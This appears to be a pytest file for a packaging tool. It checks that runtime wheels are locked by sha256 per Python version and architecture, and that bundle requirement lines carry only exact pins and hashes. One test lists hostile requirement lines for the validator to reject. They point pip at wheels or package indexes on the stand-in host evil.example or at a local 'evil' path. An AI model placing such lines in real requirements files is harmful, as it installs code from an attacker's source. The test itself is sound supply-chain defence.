"""Issue 26 item 4: the device environment is the verified one. packager/runtimes.lock.json resolves every runtime
once, per Python and architecture, to exact wheels (name, version, sha256, platform); the emulator installs exactly
those, the bundle's manifest lists them and its requirements files pin them with hashes, and a bundle's requirement
lines may carry ``--hash=sha256:`` options and nothing else."""
from __future__ import annotations

import json
import re

from packager import runtime_lock
from packager.bundle.files import requirement_problems, split_requirement
from packager.targets import list_runtimes, list_targets

SHA = "a" * 64


def test_the_lock_covers_every_runtime_python_and_architecture_it_must():
    assert runtime_lock.problems() == []
    lock = runtime_lock.load()
    assert set(lock["runtimes"]) == set(list_runtimes())
    for target in list_targets().values():
        for rt in target.runtimes:
            if not runtime_lock.pythons_for(rt) or target.python not in runtime_lock.pythons_for(rt):
                continue
            for arch in ("arm64", "x86_64"):                  # the device, and the host emulator / x86 devices
                wheels = runtime_lock.wheels(rt, target.python, arch)
                assert wheels, (target.name, rt.name, arch)
                assert {w["name"].lower().replace("_", "-") for w in wheels} >= {rt.name, "numpy"}
                for w in wheels:
                    assert re.fullmatch(r"[0-9a-f]{64}", w["sha256"]) and w["filename"].endswith(".whl")
                    assert w["platform"] == "any" or runtime_lock.MACHINES[arch] in w["platform"]
                    assert f"-{w['version']}-" in w["filename"]
                    assert w["platform"] == "any" or w["filename"].startswith(w["name"].replace("-", "_")) \
                        or w["filename"].lower().startswith(w["name"].lower().replace("-", "_"))
    # the same versions on both architectures: the x86_64 verdict and the arm64 device hold the same packages
    for entry in lock["runtimes"].values():
        for by_arch in entry["environments"].values():
            assert {(w["name"], w["version"]) for w in by_arch["arm64"]} == \
                {(w["name"], w["version"]) for w in by_arch["x86_64"]}


def test_a_lock_that_misses_what_a_target_needs_is_reported():
    lock = json.loads(runtime_lock.LOCK_FILE.read_text())
    del lock["runtimes"]["ai-edge-litert"]["environments"]["3.11"]["arm64"]
    lock["runtimes"]["tflite-runtime"]["requirements"] = ["tflite-runtime==2.13.0"]
    found = runtime_lock.problems(lock)
    assert "ai-edge-litert: no wheels for Python 3.11 on arm64" in found
    assert any(p.startswith("tflite-runtime: locked for") for p in found)


def test_requirement_lines_put_every_architectures_hash_on_one_line():
    rt = list_runtimes()["ai-edge-litert"]
    sets = [runtime_lock.wheels(rt, "3.11", arch) for arch in ("arm64", "x86_64")]
    lines = runtime_lock.requirement_lines(sets)
    numpy = next(ln for ln in lines if ln.startswith("numpy=="))
    shas = {w["sha256"] for ws in sets for w in ws if w["name"] == "numpy"}
    assert len(shas) == 2 and all(f"--hash=sha256:{h}" in numpy for h in shas)
    tqdm = next(ln for ln in lines if ln.startswith("tqdm=="))
    assert tqdm.count("--hash=") == 1                     # a pure-Python wheel is the same file on both
    assert len(lines) == len({(w["name"], w["version"]) for ws in sets for w in ws})


def _problems(tmp_path, *lines):
    (tmp_path / "requirements.txt").write_text("\n".join(lines) + "\n")
    return requirement_problems(tmp_path)


def test_hashed_lines_pass_and_a_hash_does_not_excuse_anything_else(tmp_path):
    assert _problems(tmp_path, f"numpy==2.4.6 --hash=sha256:{SHA} --hash=sha256:{'b' * 64}",
                     f"protobuf==7.36.2 --hash=sha256:{SHA}", "ai-edge-litert==2.3.*") == []
    assert split_requirement(f"numpy==2.4.6 --hash=sha256:{SHA}") == ("numpy==2.4.6", [SHA])
    hostile = [f"https://evil.example/numpy.whl --hash=sha256:{SHA}",
               f"--index-url https://evil.example numpy==2.4.6 --hash=sha256:{SHA}",
               f"numpy==2.4.6 --hash=sha256:{SHA} --index-url https://evil.example/simple",
               f"numpy==2.4.6 --hash=sha256:{SHA} -i https://evil.example/simple",
               f"evilpkg==1.0 --hash=sha256:{SHA}",
               "numpy==2.4.6 --hash=md5:0123456789abcdef0123456789abcdef",
               "numpy==2.4.6 --hash=sha256:abc",
               f"numpy>=1.23 --hash=sha256:{SHA}",
               f"numpy @ https://evil.example/n.whl --hash=sha256:{SHA}",
               f"./evil --hash=sha256:{SHA}",
               f"numpy==2.4.6 --hash=sha256:{SHA} \\"]
    for line in hostile:
        found = _problems(tmp_path, line)
        assert len(found) == 1 and "requirements.txt line 1" in found[0], (line, found)


def test_a_bundle_lists_the_wheels_its_verdict_rests_on_and_pins_them(int8_bundle):
    from packager.verification.emulator import host_arch
    bundle = int8_bundle.bundle
    manifest = json.loads((bundle / "manifest.json").read_text())
    verdicts = {r["runtime"]: r for r in manifest["verification"]["runtimes"]}
    for entry in manifest["runtimes"]:
        rt = list_runtimes()[entry["name"]]
        wheels = entry["wheels"]
        assert {(w["python"], w["arch"]) for w in wheels} == {("3.11", "arm64"), ("3.11", "x86_64")}
        for w in wheels:
            assert {"name", "version", "filename", "sha256", "platform", "verified"} <= set(w)
        ran = verdicts[entry["name"]]["wheels"]
        if verdicts[entry["name"]]["status"] in ("passed", "failed"):
            assert ran == [{k: w[k] for k in ("name", "version", "filename", "sha256")}
                           for w in runtime_lock.wheels(rt, "3.11", host_arch())]
            assert {w["sha256"] for w in wheels if w["verified"]} == {w["sha256"] for w in ran}
        text = (bundle / f"requirements-{entry['name']}.txt").read_text()
        assert text.splitlines() == runtime_lock.requirement_lines(
            [[w for w in wheels if w["arch"] == a] for a in ("arm64", "x86_64")])
    from packager.bundle.files import read_manifest
    assert read_manifest(bundle).wheels("ai-edge-litert") == manifest["runtimes"][0]["wheels"]
    lines = [ln for ln in (bundle / "requirements.txt").read_text().splitlines() if ln]
    assert lines and all(re.search(r"==\S+ --hash=sha256:[0-9a-f]{64}", ln) for ln in lines)
    assert requirement_problems(bundle) == []
    readme = (bundle / "README.md").read_text()
    assert "--require-hashes --only-binary :all: --no-deps -r requirements-ai-edge-litert.txt" in readme


def test_the_host_environment_holds_exactly_the_locked_wheels():
    import sys
    from packager.verification.emulator import _dists, _clean_env, get_env, host_arch
    rt = list_runtimes()["ai-edge-litert"]
    env = get_env(rt)
    locked = runtime_lock.wheels(rt, "%d.%d" % sys.version_info[:2], host_arch())
    assert env.wheels == locked and env.version == next(w["version"] for w in locked if w["name"] == rt.name)
    held = _dists(list(env.argv), _clean_env())
    for w in locked:
        assert held[re.sub(r"[-_.]+", "-", w["name"]).lower()] == w["version"]
    assert set(held) - {re.sub(r"[-_.]+", "-", w["name"]).lower() for w in locked} <= {"pip", "setuptools"}


def test_an_environment_key_changes_with_the_lock():
    from packager.verification import arm64
    rt = list_runtimes()["ai-edge-litert"]
    wheels = runtime_lock.wheels(rt, "3.11", "arm64")
    other = [dict(w, sha256="0" * 64) if w["name"] == "numpy" else w for w in wheels]
    base = arm64.site_key(list(rt.requirements))
    assert len({base, arm64.site_key(list(rt.requirements), wheels=wheels),
                arm64.site_key(list(rt.requirements), wheels=other)}) == 3
